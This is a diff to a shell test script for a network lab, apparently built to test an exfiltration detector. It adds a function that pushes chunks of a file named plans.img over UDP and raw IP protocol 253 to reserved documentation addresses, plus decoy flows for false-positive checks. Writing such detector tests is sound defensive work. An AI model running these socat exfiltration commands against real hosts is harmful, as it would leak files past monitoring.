@@ -9,7 +9,7 @@
 set -eu
 export XFL_PREFIX=${XFL_PREFIX:-thf}
 all=(http_archive_curl ftp_report_curl mail_report_swaks raw_pieces_nc posts_curl program_wget covert_ping staged_smbclient
-    logs_logger traps_snmptrap udp_push_socat header_pings header_syns benign_headers benign_theft_tools benign_messages)
+    logs_logger traps_snmptrap udp_push_socat silent_push_socat benign_exports header_pings header_syns benign_headers benign_theft_tools benign_messages)
 # shellcheck source=tests/lab/lab.sh
 . "$(dirname "$0")/lab.sh"
 out=203.0.113.20
@@ -180,6 +180,24 @@ udp_push_socat() { # an encrypted file to a port where calls begin, and nobody a
     head -c 2600000 "$dir/share/plans.img" | "${cli[@]}" socat -u -b 1400 - UDP4-SENDTO:$out:3478
 }
 snap_udp_push_socat() { echo 64; }
+
+silent_push_socat() { # sealed bytes in datagrams to a bare address, and in an IP protocol that is nobody's
+    local i
+    for i in 1 2 3 4 5 6 7; do
+        head -c "$((i * 7000))" "$dir/share/plans.img" | tail -c 7000 | "${cli[@]}" socat -u -b 1000 - UDP4-SENDTO:$out:5555,sourceport=40100
+        head -c "$((i * 7000))" "$dir/share/plans.img" | tail -c 7000 | "${cli[@]}" socat -u -b 1000 - IP4-SENDTO:203.0.113.21:253
+        sleep 1
+    done
+}
+benign_exports() { # flow records and logs to a collector outside, and a program that gives up
+    local i
+    for i in 1 2 3 4 5 6 7 8; do
+        head -c "$((i * 7000))" "$dir/share/plans.img" | tail -c 7000 | "${cli[@]}" socat -u -b 1400 - UDP4-SENDTO:$out:2055,sourceport=40100
+        head -c 6000 "$dir/www/index.html" | "${cli[@]}" socat -u -b 900 - UDP4-SENDTO:$out:514,sourceport=40101
+        head -c 1200 "$dir/share/plans.img" | "${cli[@]}" socat -u -b 148 - UDP4-SENDTO:203.0.113.21:41000,sourceport=40102
+        sleep 1
+    done
+}
 
 letters() { # text: the number of each letter
     printf %s "$1" | od -An -v -t u1 -w1 | tr -d ' '
